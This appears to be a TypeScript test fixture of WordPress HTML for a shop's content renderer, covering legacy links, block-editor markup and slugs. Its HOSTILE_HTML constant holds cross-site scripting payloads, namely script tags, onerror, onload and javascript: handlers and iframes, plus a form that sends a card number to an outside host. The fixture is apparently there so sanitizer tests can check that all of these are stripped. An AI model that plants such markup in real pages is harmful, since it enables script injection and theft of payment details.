/** Content in WordPress beyond the shipped one: old links, a page, and HTML that must be removed. */

export const LEGACY_SLUG = 'where-the-old-links-lead'

/** @param siteUrl the brand's public URL */
export function legacyHtml(siteUrl: string, picture: string): string {
  return `<p>"Straight quotes" &amp; an <a href="${siteUrl}/park/uklodge/14/cumbria">old park link</a>,
a <a href="https://www.visitcumbria.example/?a=1&amp;b=2">link elsewhere</a>.</p>
<p><a href="${siteUrl}/park/uklodge/14/cumbria"><img src="${picture}" alt="Book now" /></a></p>
<figure><img src="${picture}" alt="Boats at a mooring" width="960" height="640" /></figure>
<img src="https://elsewhere.example/spy.gif" alt="Of another host" />

[parks channel="uklodge" title="Lodges that are free"]
`
}

export const BOATS_ALT = 'Boats on a still canal'

export const HOSTILE_SLUG = 'hostile'

/** Each would run `alert`, load another host's page or send input to it. */
export const HOSTILE_HTML = `<p>These words stay.</p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')" />
<a href="javascript:alert('href')" onclick="alert('click')">A link that runs</a>
<iframe src="https://elsewhere.example/frame"></iframe>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<style>body { display: none }</style>
<form action="https://elsewhere.example/take"><input name="card" /><button>Pay</button></form>
<p style="position:fixed;inset:0" id="root" class="book-now">A paragraph over everything</p>
<object data="https://elsewhere.example/object"></object>
<p>These words stay too.</p>
`

export const OVERRIDE = {
  slug: 'bf-about-us',
  path: '/about-us',
  title: 'About us, from WordPress',
  html: '<p>The editors of the WordPress wrote this.</p>',
}

/** WordPress percent-encodes it, and so does the sitemap. */
export const FOREIGN_SLUG = 'тихое-море'
export const SECRET_SLUG = 'with-a-password'

export const LONG_WORD = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'

/** @param home URL of the WordPress. Without excerpt and title, which the shop must handle */
export function blocksHtml(home: string, picture: string): string {
  const image = `<figure class="wp-block-image"><img src="${picture}" alt="In the gallery" /></figure>`
  return `<!-- wp:paragraph --><p>All blocks begin here with ${LONG_WORD}<sup class="fn"><a href="#n1" id="n1-link">1</a></sup>.</p><!-- /wp:paragraph -->
<!-- wp:gallery {"linkTo":"none"} --><figure class="wp-block-gallery has-nested-images columns-default is-cropped"><!-- wp:image -->${image}<!-- /wp:image --><!-- wp:image -->${image}<!-- /wp:image --></figure><!-- /wp:gallery -->
<!-- wp:columns --><div class="wp-block-columns"><!-- wp:column --><div class="wp-block-column"><!-- wp:paragraph --><p>Left column</p><!-- /wp:paragraph --></div><!-- /wp:column --></div><!-- /wp:columns -->
<!-- wp:verse --><pre class="wp-block-verse">A line of verse ${'that does not end '.repeat(12)}</pre><!-- /wp:verse -->
<!-- wp:code --><pre class="wp-block-code"><code>${'x'.repeat(200)}</code></pre><!-- /wp:code -->
<!-- wp:preformatted --><pre class="wp-block-preformatted">${'y'.repeat(200)}</pre><!-- /wp:preformatted -->
<!-- wp:pullquote --><figure class="wp-block-pullquote"><blockquote><p>Pulled</p><cite>Ann</cite></blockquote></figure><!-- /wp:pullquote -->
<!-- wp:embed {"url":"https://www.youtube.com/watch?v=a1B2c3","type":"video","providerNameSlug":"youtube"} --><figure class="wp-block-embed is-type-video"><div class="wp-block-embed__wrapper">
https://www.youtube.com/watch?v=a1B2c3
</div><figcaption>Embedded</figcaption></figure><!-- /wp:embed -->
<!-- wp:video --><figure class="wp-block-video"><video controls src="${home}/wp-content/uploads/tide.mp4"></video></figure><!-- /wp:video -->
<!-- wp:audio --><figure class="wp-block-audio"><audio controls src="${home}/wp-content/uploads/gulls.mp3"></audio></figure><!-- /wp:audio -->
<!-- wp:buttons --><div class="wp-block-buttons"><!-- wp:button --><div class="wp-block-button"><a class="wp-block-button__link" href="/offers">First button</a></div><!-- /wp:button --><!-- wp:button --><div class="wp-block-button"><a class="wp-block-button__link" href="/help">Second button</a></div><!-- /wp:button --></div><!-- /wp:buttons -->
<!-- wp:html --><details class="wp-block-details"><summary>Details</summary><p>Within</p></details><!-- /wp:html -->
<!-- wp:table --><figure class="wp-block-table"><table><tbody><tr><td>1</td><td>2</td><td>3</td><td>4</td><td>5</td></tr></tbody></table></figure><!-- /wp:table -->
<!-- wp:cover --><div class="wp-block-cover"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><div class="wp-block-cover__inner-container"><p>On the cover</p></div></div><!-- /wp:cover -->
<!-- wp:media-text --><div class="wp-block-media-text is-stacked-on-mobile"><figure class="wp-block-media-text__media"><img src="${picture}" alt="Beside" /></figure><div class="wp-block-media-text__content"><p>Beside a picture</p></div></div><!-- /wp:media-text -->
<!-- wp:file --><div class="wp-block-file"><a href="${home}/wp-content/uploads/tides.pdf">Tide table</a><a href="${home}/wp-content/uploads/tides.pdf" class="wp-block-file__button" download>Download</a></div><!-- /wp:file -->
<!-- wp:paragraph --><p><a href="${home}/${LEGACY_SLUG}/">To another post</a>, <a href="/${LEGACY_SLUG}/">the same from the root</a>, <a href="https://shop.example/" rel="sponsored">paid for</a>.</p><!-- /wp:paragraph -->
<ol class="wp-block-footnotes"><li id="n1">The first note. <a href="#n1-link">Back</a></li></ol>
`
}
